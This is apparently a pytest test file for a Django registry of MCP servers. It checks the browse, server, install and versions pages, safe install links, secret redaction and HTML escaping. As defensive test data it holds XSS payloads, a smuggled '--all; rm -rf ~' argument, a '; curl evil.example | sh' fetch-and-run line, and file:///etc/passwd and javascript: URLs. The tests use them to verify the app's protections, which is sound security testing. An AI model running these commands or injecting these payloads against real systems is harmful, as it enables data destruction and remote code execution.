"""Pages of the registry, as anybody sees them."""

from __future__ import annotations

import base64
import html
import json
import re
import shlex
from typing import Any
from urllib.parse import quote, unquote
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from common import clock
from registry.models import Server, ServerVersion, Status
from tests.registry.entries import npm, publish, pypi, remote

pytestmark = pytest.mark.django_db
TABS = ["", "tools", "configure", "install", "versions"]
XSS = [
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</title><svg/onload=alert(1)>",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "\u202etxt.exe\u202c\u200b",
    "]]><script>alert(1)</script>",
]


def page(name: str, tab: str = "") -> str:
    return reverse("registry:server_tab", args=[name, tab]) if tab else reverse("registry:server", args=[name])


def get(client: Client, path: str, status: int = 200) -> str:
    answer = client.get(path)
    assert answer.status_code == status, answer.content[:2000]
    return answer.content.decode()


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?q=slack",
        "?q=slakc&package=npm",
        "?package=nothing&sort=x&page=zz&updated=y",
        "?page=99999",
        "?q=%00",
        "?package=pypi&runs=remote",
    ],
)  # noqa: E501
def test_browse_answers_whatever_is_asked(client: Client, query: str) -> None:
    publish("io.github.acme/slack", title="Slack", packages=[npm("slack")])
    assert "MCP servers" in get(client, "/registry/" + query)


def test_browse_of_an_empty_registry_says_so(client: Client) -> None:
    assert "No servers yet" in get(client, "/registry/")
    assert "No server matches" in get(client, "/registry/?q=nothing")


@pytest.mark.parametrize("tab", TABS)
def test_server_has_its_pages(client: Client, tab: str) -> None:
    publish("io.github.acme/slack", title="Slack for all", packages=[npm("slack-mcp", "1.2.3")])
    text = get(client, page("io.github.acme/slack", tab))
    assert "Slack for all" in text and "io.github.acme/slack" in text


@pytest.mark.parametrize(
    "path",
    [
        "/registry/servers/no.such/thing",
        "/registry/servers/x",
        "/registry/servers/io.github.acme/slack/-/nothing",
        "/registry/servers/io.github.acme/slack?version=9",
        "/registry/servers/a%00b/c",
    ],
)  # noqa: E501
def test_what_is_not_there_is_404(client: Client, path: str) -> None:
    publish("io.github.acme/slack")
    get(client, path, 404)


def test_pages_are_read_only(client: Client) -> None:
    publish("io.github.acme/slack")
    for path in ["/registry/", page("io.github.acme/slack"), "/registry/feed"]:
        assert client.post(path).status_code == 405


def test_earlier_version_has_its_page(client: Client) -> None:
    publish("io.github.acme/slack", "1.0.0", description="The first")
    publish("io.github.acme/slack", "2.0.0", description="The second")
    assert "The second" in get(client, page("io.github.acme/slack"))
    first = get(client, page("io.github.acme/slack") + "?version=1.0.0")
    assert "The first" in first and "not the latest version" in first


def test_versions_are_compared(client: Client) -> None:
    publish("io.github.acme/slack", "1.0.0", description="The first", packages=[npm("slack-mcp", "1.0.0")])
    publish("io.github.acme/slack", "2.0.0", description="The second", packages=[npm("slack-mcp", "2.0.0")])
    there = page("io.github.acme/slack", "versions")
    text = re.sub(r"<[^>]+>", "", get(client, there + "?from=1.0.0&to=2.0.0"))
    assert "- " in text and '"description": "The first"' in text.replace("&quot;", '"')
    assert "The two documents say the same" in get(client, there + "?from=1.0.0&to=1.0.0")
    assert "no such version" in get(client, there + "?from=1.0.0&to=7")


IMAGE = {"registryType": "oci", "identifier": "ghcr.io/acme/slack:1", "transport": {"type": "stdio"}}
BUNDLE = {**IMAGE, "registryType": "mcpb", "identifier": "https://example.org/slack.mcpb"}


@pytest.mark.parametrize("tab", TABS)
@pytest.mark.parametrize(
    ("members", "reason"),
    [
        ({"packages": [npm("slack-mcp")]}, ""),
        ({"packages": [IMAGE, pypi("slack-mcp")]}, ""),
        ({"packages": [IMAGE], "remotes": [remote("https://slack.example.com/mcp")]}, ""),
        ({"packages": [IMAGE]}, "it offers oci over stdio."),
        ({"packages": [BUNDLE, {**npm("Slack", "1.0.0"), "registryType": "nuget"}]}, "mcpb over stdio, nuget"),
        ({"packages": [{**npm("slack-mcp"), "transport": {"type": "sse", "url": "http://x/"}}]}, "npm over sse"),
        ({"packages": [npm("<b>no name")]}, "&lt;b&gt;no name"),
        ({}, "and no remote."),
    ],
    ids=["npm", "pypi", "remote", "image", "bundle", "sse", "name", "nothing"],
)
def test_host_is_offered_where_there_is_something_to_host(
    client: Client, tab: str, members: dict[str, Any], reason: str
) -> None:
    publish("io.github.acme/slack", **members)
    text = get(client, page("io.github.acme/slack", tab))
    link = "/servers/new?reference=registry%3Aio.github.acme%2Fslack"
    assert (f'href="{link}"' in text) == (not reason)
    assert ("can't host it" in text) == bool(reason)
    assert reason in text


def test_earlier_version_is_hosted_as_such_and_a_deleted_one_not_at_all(client: Client) -> None:
    publish("io.github.acme/slack", "1.0.0", packages=[npm("slack-mcp")])
    publish("io.github.acme/slack", "2.0.0", packages=[IMAGE])
    there = page("io.github.acme/slack", "install")
    assert "/servers/new?" not in get(client, there)
    assert get(client, f"{there}?version=1.0.0").count("?reference=registry%3Aio.github.acme%2Fslack%401.0.0") == 2
    assert f'class="button" href="{there}?version=1.0.0"' in get(
        client, page("io.github.acme/slack") + "?version=1.0.0"
    )
    ServerVersion.objects.filter(version="1.0.0").update(status=Status.DELETED)
    text = get(client, f"{there}?version=1.0.0")
    assert "/servers/new?" not in text and "can't host it" not in text


def test_install_shows_the_whole_command_before_any_link(client: Client) -> None:
    publish(
        "io.github.acme/slack",
        packages=[npm("slack-mcp", "1.2.3", packageArguments=[{"type": "positional", "value": "--all; rm -rf ~"}])],
    )  # noqa: E501
    text = get(client, page("io.github.acme/slack", "install"))
    command = text.index("npx -y slack-mcp@1.2.3 &#x27;--all; rm -rf ~&#x27;")
    warning = text.index("this runs code on your machine")
    link = text.index('href="vscode:mcp/install?')
    assert command < warning < link < text.index('href="cursor://')


def test_install_hides_nothing_of_a_long_command(client: Client) -> None:
    """Threat 37: 5 KB of arguments are shown to their end, and one click runs those and no others."""
    words = [f"--option-{number}={'x' * 30}" for number in range(100)] + ["y" * 2500, "; curl evil.example | sh"]
    values = [{"type": "positional", "value": word} for word in words]
    publish("io.github.acme/slack", packages=[npm("slack-mcp", "1.2.3", packageArguments=values)])
    text = html.unescape(get(client, page("io.github.acme/slack", "install")))
    assert f"<code data-copy-source>npx -y slack-mcp@1.2.3 {shlex.join(words)}</code>" in text
    vscode = json.loads(unquote(re.findall(r'href="vscode:mcp/install\?([^"]+)"', text)[0]))
    cursor = json.loads(base64.b64decode(unquote(re.findall(r'href="cursor://[^"]+&config=([^"]+)"', text)[0])))
    for runs in (vscode, cursor):
        assert [runs["command"], *runs["args"]] == ["npx", "-y", "slack-mcp@1.2.3", *words]
    assert "http-equiv" not in text.lower() and "<iframe" not in text  # nothing opens by itself


@pytest.mark.parametrize("values", [["--last"] * 201, ["y" * 20_001]])
def test_install_gives_no_command_that_nobody_would_read(client: Client, values: list[str]) -> None:
    """Threat 37: nor one with its end cut off."""
    listed = [{"type": "positional", "value": value} for value in values]
    publish("io.github.acme/slack", packages=[npm("slack-mcp", packageArguments=listed)])
    text = get(client, page("io.github.acme/slack", "install"))
    assert "too long for anybody to read" in text and "npx -y" not in text and 'href="vscode:' not in text


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "vscode:mcp/install?x", "ssh://example.com/x",
     "https://user:word@example.com/mcp", "//example.com/mcp"],
)  # fmt: skip
def test_install_links_to_web_addresses_only(client: Client, url: str) -> None:
    """Threat 37: neither a client nor a browser is sent to anything else, as a server or as a bundle."""
    bundle = {"registryType": "mcpb", "identifier": url, "fileSha256": "0" * 64, "transport": {"type": "stdio"}}
    publish("io.github.acme/bad", packages=[bundle], remotes=[remote(url)], websiteUrl=url, repository={"url": url})
    for tab in ("", "install"):
        text = html.unescape(get(client, page("io.github.acme/bad", tab)))
        links = re.findall(r'(?:href|src|action)="([^"]*)"', text)
        assert links and not [link for link in links if url in unquote(link) or link.startswith(("vscode:", "cursor:"))]
    assert "none that a client could connect to" in text and "none that could be fetched" in text


def test_secret_is_never_in_a_link(client: Client) -> None:
    secret = {"name": "API_KEY", "isSecret": True, "isRequired": True, "value": "hunter2", "default": "hunter2"}
    publish(
        "io.github.acme/slack",
        packages=[npm("slack-mcp", environmentVariables=[secret])],
        remotes=[remote("https://slack.example.com/mcp", headers=[{**secret, "name": "Authorization"}])],
    )
    text = get(client, page("io.github.acme/slack", "install"))
    assert "hunter2" not in text and "aHVudGVyMg" not in text  # nor in base64
    assert "hunter2" not in get(client, page("io.github.acme/slack", "configure"))


def test_taken_down_server_is_gone_from_its_pages(client: Client) -> None:
    publish("io.github.acme/slack")
    Server.objects.update(taken_down_at=clock.now(), taken_down_reason="Stole tokens")
    for tab in TABS:
        text = get(client, page("io.github.acme/slack", tab), 410)
        assert "Stole tokens" in text and "npx -y" not in text  # its three letters may be in a nonce


@pytest.mark.parametrize("words", XSS)
def test_no_field_of_a_server_becomes_markup(client: Client, words: str) -> None:
    said: dict[str, Any] = {"name": words, "description": words, "value": words, "default": words, "isRequired": True}
    inputs = [said, {**said, "name": "FINE", "choices": [words], "isSecret": True}]
    publish(
        "io.github.acme/bad",
        "1.0.0" + words,
        title=words,
        description=words,
        websiteUrl=words,
        repository={"url": words, "source": words, "subfolder": words, "id": words},
        icons=[{"src": words}],
        packages=[
            {"registryType": kind, "identifier": words, "version": words, "registryBaseUrl": words,
             "runtimeHint": words,
             "environmentVariables": inputs, "packageArguments": [{**said, "type": "named"}],
             "transport": {"type": words, "url": words}}
            for kind in ("npm", "pypi", "oci", "mcpb", words)
        ],
        remotes=[{"type": words, "url": words, "headers": inputs, "variables": {words: said}},
                 {"type": "sse", "url": f"https://example.com/{words}", "headers": inputs}],
        row={"status_message": words, "marks": [{"path": words, "reference": words, "message": words}]},
    )  # fmt: skip
    publish("io.github.acme/bad", "2.0.0", title=words)
    texts = [get(client, "/registry/?q=bad"), get(client, "/registry/"), get(client, "/registry/feed")]
    texts += [get(client, page("io.github.acme/bad", tab) + "?version=" + clean(words)) for tab in TABS]
    texts.append(get(client, page("io.github.acme/bad", "versions") + f"?from={clean(words)}&to=2.0.0"))
    for text in texts:
        assert "<script>alert" not in text and "<img src=x" not in text and "<svg/onload" not in text
        assert 'href="javascript:' not in text
        shown = re.sub(r'"[^"]*"', "", text)  # what an attribute holds is not seen
        assert not re.search(r"<[^>]+\son(error|load)=", shown)
        assert "\u202e" not in shown or text.startswith("<?xml")


def clean(words: str) -> str:
    return quote("1.0.0" + words, safe="")


def test_feed_is_atom(client: Client) -> None:
    publish("io.github.acme/slack", description="a & b < c \x07", row={"status": "deprecated"})
    root = ElementTree.fromstring(get(client, "/registry/feed"))
    atom = "{http://www.w3.org/2005/Atom}"
    titles = [entry.findtext(f"{atom}title") for entry in root.iter(f"{atom}entry")]
    assert titles == ["io.github.acme/slack 1.0.0 (deprecated)"]
    assert root.findtext(f"{atom}updated")


def test_pages_ask_the_database_little(client: Client) -> None:
    for number in range(30):
        publish(f"io.github.acme/tool{number}", str(number), title="Tool", packages=[npm("tool")])
    for path in ["/registry/", "/registry/?q=tool", *(page("io.github.acme/tool1", tab) for tab in TABS)]:
        with CaptureQueriesContext(connection) as asked:
            get(client, path)
        assert len(asked) <= 12, (path, len(asked))
